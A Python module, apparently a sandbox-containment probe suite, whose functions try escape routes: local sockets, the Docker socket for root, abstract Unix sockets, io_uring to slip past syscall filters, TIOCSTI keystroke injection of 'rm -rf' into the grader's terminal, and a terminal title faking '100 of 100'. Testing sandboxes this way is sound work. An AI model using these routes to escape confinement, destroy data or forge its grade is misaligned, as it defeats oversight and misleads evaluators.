"""Deeds that talk to somebody else: over a network, a socket in a folder, a terminal, the kernel."""

import ctypes
import fcntl
import os
import socket
import termios

WORD = b"an attack was here"
IO_URING_SETUP = 425
libc = ctypes.CDLL(None, use_errno=True)


def network_tcp(target):
    """Send what one knows over TCP."""
    with socket.create_connection(("127.0.0.1", target.tcp), timeout=1) as connection:
        connection.sendall(WORD)


def network_udp(target):
    """Send it over UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(WORD, ("127.0.0.1", target.udp))


def unix_socket_in_folder(target):
    """Talk to a service of the machine; Docker's gives root."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(target.unix)
        connection.sendall(WORD)


def unix_socket_abstract(target):
    """Talk to a service without a place in any folder; the desktop's bus is one."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + target.abstract)
        connection.sendall(WORD)


def listen(target):
    """Wait to be called."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        return f"listening on port {server.getsockname()[1]}"


def io_uring(target):
    """Have the kernel make the system calls, past every filter."""
    parameters = ctypes.create_string_buffer(120)
    descriptor = libc.syscall(IO_URING_SETUP, 1, parameters)
    if descriptor < 0:
        raise PermissionError
    os.close(descriptor)
    return "has a ring"


def tty_tiocsti(target):
    """Type into the terminal of whoever grades."""
    terminal = os.open(target.terminal, os.O_RDONLY)
    for byte in b"rm -rf\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))


def write_to_terminal(target):
    """Draw on the terminal of whoever grades."""
    with open(target.terminal, "wb", buffering=0) as terminal:
        terminal.write(b"\x1b]0;100 of 100\x07")
